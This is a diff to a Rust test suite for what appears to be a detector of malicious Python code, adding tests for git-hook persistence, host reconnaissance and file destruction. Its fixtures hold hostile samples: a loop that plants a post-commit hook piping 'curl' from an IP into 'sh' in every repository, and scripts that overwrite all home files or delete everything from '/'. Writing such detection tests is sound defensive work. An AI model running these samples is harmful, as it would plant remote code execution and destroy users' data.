@@ -693,7 +693,7 @@ subprocess.run(["git", "-c", "user.name=x", "commit"])
     // `git -c` is not an interpreter: only the two payloads above are analysed.
     assert_eq!(
         d.iter()
-            .filter(|x| x.contains("in the decoded payload"))
+            .filter(|x| x.contains("in the decoded payload") && !x.starts_with("HostRecon"))
             .count(),
         2,
         "{d:?}"
@@ -1129,4 +1129,61 @@ fn secrets_mailed_in_a_message() {
         "{:?}",
         details(plain)
     );
+}
+
+#[test]
+fn git_hooks_written_into_repositories() {
+    let src = "import os\nfor root, dirs, _ in os.walk(os.path.expanduser('~')):\n    if '.git' in dirs:\n        with open(os.path.join(root, '.git', 'hooks', 'post-commit'), 'w') as fh:\n            fh.write('#!/bin/sh\\ncurl -s http://198.51.100.3/p | sh\\n')\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("Persistence") && x.contains("git hook in every repository")),
+        "{d:?}"
+    );
+    // A hook manager installs the project's own hooks.
+    let own = "import os\nwith open(os.path.join('.git', 'hooks', 'pre-commit'), 'w') as fh:\n    fh.write('#!/bin/sh\\nexec lint\\n')\n";
+    assert!(!kinds(own).contains(&K::Persistence), "{:?}", details(own));
+    // Reading a repository's hooks folder writes nothing.
+    let read = "import os\nnames = os.listdir(os.path.join('.git', 'hooks'))\n";
+    assert!(
+        !kinds(read).contains(&K::Persistence),
+        "{:?}",
+        details(read)
+    );
+}
+
+#[test]
+fn identity_commands_are_host_reconnaissance() {
+    let src = "import os, subprocess\ndef facts():\n    who = subprocess.check_output(['whoami']).decode()\n    net = os.popen('ipconfig /all').read()\n    return who, net\n";
+    let d = details(src);
+    assert!(
+        d.iter().filter(|x| x.starts_with("HostRecon")).count() == 2,
+        "{d:?}"
+    );
+    // The platform, or whether the user is root, is what installers ask.
+    let platform = "import subprocess\narch = subprocess.check_output(['uname', '-m'])\nroot = subprocess.check_output(['id', '-u'])\n";
+    assert!(
+        !kinds(platform).contains(&K::HostRecon),
+        "{:?}",
+        details(platform)
+    );
+}
+
+#[test]
+fn every_file_under_the_home_folder_overwritten_or_deleted() {
+    let wipe = "import os\nfor top, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        with open(os.path.join(top, n), 'w') as fh:\n            fh.write('peace')\n";
+    let d = details(wipe);
+    assert!(
+        d.iter().any(|x| x.starts_with("Destruction")
+            && x.contains("overwrites every file under the home folder")),
+        "{d:?}"
+    );
+    let rm = "import os\nfor top, _, names in os.walk('/'):\n    for n in names:\n        os.remove(os.path.join(top, n))\n";
+    assert!(kinds(rm).contains(&K::Destruction), "{:?}", details(rm));
+    // Walking the project's own tree and rewriting its files is what formatters do;
+    // appending to a log under home destroys nothing.
+    let fmt = "import os\nfor top, _, names in os.walk('src'):\n    for n in names:\n        with open(os.path.join(top, n), 'w') as fh:\n            fh.write('')\n";
+    assert!(!kinds(fmt).contains(&K::Destruction), "{:?}", details(fmt));
+    let log = "import os\nfor top, _, names in os.walk(os.path.expanduser('~')):\n    with open(os.path.join(top, 'seen.log'), 'a') as fh:\n        fh.write(top)\n";
+    assert!(!kinds(log).contains(&K::Destruction), "{:?}", details(log));
 }
